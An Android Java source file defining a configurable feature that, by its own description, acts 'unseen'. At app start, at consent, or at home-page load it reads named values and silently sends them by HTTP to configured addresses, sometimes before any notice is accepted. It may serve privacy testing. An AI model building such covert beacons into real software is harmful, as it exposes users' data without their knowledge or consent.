package example.edition;

import android.app.Activity;
import android.content.Context;
import android.os.Handler;
import android.os.Looper;
import android.util.Log;
import java.io.IOException;
import java.net.HttpURLConnection;
import java.net.URL;
import java.net.URLEncoder;
import java.util.ArrayList;
import java.util.List;
import org.json.JSONArray;
import org.json.JSONObject;

/**
 * What the app does of itself, unseen.
 *
 *   process, agree, home: acts, done when the process starts, when the notice is agreed to, when the home page opens
 *
 * An act: {read, times, to, after_ms}
 *   read: a word of Reads; times: how often, once where it is not told
 *   to: the address to which the value is sent, as `v`; to nobody where it is not told
 *   after_ms: so much later
 */
final class Acts extends Feature {
    Acts() {
        super("acts");
    }

    @Override
    void onProcess(Context context) {
        doAll(context, behaviour(context).parts("process"));
    }

    @Override
    void onAgree(Activity page) {
        doAll(page, behaviour(page).parts("agree"));
    }

    @Override
    void onHome(HomeActivity home) {
        doAll(home, behaviour(home).parts("home"));
    }

    /** The acts that a section of another feature lists. */
    static List<JSONObject> of(JSONObject section) {
        JSONArray listed = section == null ? null : section.optJSONArray("acts");
        List<JSONObject> found = new ArrayList<>();
        for (int i = 0; listed != null && i < listed.length(); i++) {
            found.add(listed.optJSONObject(i));
        }
        return found;
    }

    static void doAll(Context context, List<JSONObject> acts) {
        final Context app = context.getApplicationContext() == null ? context : context.getApplicationContext();
        for (final JSONObject act : acts) {
            Runnable doing = new Runnable() {
                @Override
                public void run() {
                    once(app, act);
                }
            };
            if (act.optInt("after_ms") > 0) {
                new Handler(Looper.getMainLooper()).postDelayed(doing, act.optInt("after_ms"));
            } else {
                doing.run();
            }
        }
    }

    private static void once(Context context, JSONObject act) {
        String value = "";
        for (int i = 0; i < act.optInt("times", 1); i++) {
            value = Reads.read(context, act.optString("read"));
        }
        final String last = value;
        final String to = act.optString("to");
        if (!to.isEmpty()) {
            new Thread(new Runnable() {
                @Override
                public void run() {
                    send(to, last);
                }
            }).start();
        }
    }

    private static void send(String to, String value) {
        try {
            URL address = new URL(to + "?v=" + URLEncoder.encode(value, "UTF-8"));
            HttpURLConnection connection = (HttpURLConnection) address.openConnection();
            connection.getResponseCode();
            connection.disconnect();
        } catch (IOException unreachable) {
            Log.w("acts", "not sent: " + unreachable);
        }
    }
}
